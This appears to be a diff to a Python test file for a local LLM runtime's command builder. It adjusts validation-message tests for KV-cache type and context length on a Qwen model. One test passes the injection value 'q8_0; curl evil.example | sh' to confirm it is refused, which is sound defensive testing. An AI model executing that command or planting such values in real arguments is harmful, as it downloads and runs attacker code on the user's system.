@@ -101,13 +101,15 @@ def test_shell_metacharacters_in_every_argument_are_refused_or_quoted(qualified,
 
 
 def test_a_kv_cache_type_with_a_command_is_refused():
-    with pytest.raises(ValueError, match=r"kv_cache_dtype must be one of \['f16', 'q8_0', 'q4_0'\]"):
+    with pytest.raises(ValueError, match=r"kv_cache_dtype must be one of 'f16', 'q8_0', 'q4_0'"):
         local_runtime.commands("Qwen/Qwen2.5-7B-Instruct", "q4_k_m", 8192, "q8_0; curl evil.example | sh")
 
 
 def test_a_context_beyond_the_checkpoints_limit_is_refused():
     with pytest.raises(ValueError, match=r"context_tokens must be a whole number from 1 to 32,768"):
-        local_runtime.commands("Qwen/Qwen2.5-7B-Instruct", "q4_k_m", 10_000_000)
+        local_runtime.commands("Qwen/Qwen2.5-7B-Instruct", "q4_k_m", 40_000)  # YaRN reaches it; no -c flag does
+    with pytest.raises(ValueError, match=r"context_tokens must be at most 131,072 tokens"):
+        local_runtime.commands("Qwen/Qwen2.5-7B-Instruct", "q4_k_m", 10_000_000)  # beyond any documented context
     assert "-c 32768 " in local_runtime.commands("Qwen/Qwen2.5-7B-Instruct", "q4_k_m", 32768)["llama-server"]
 
 
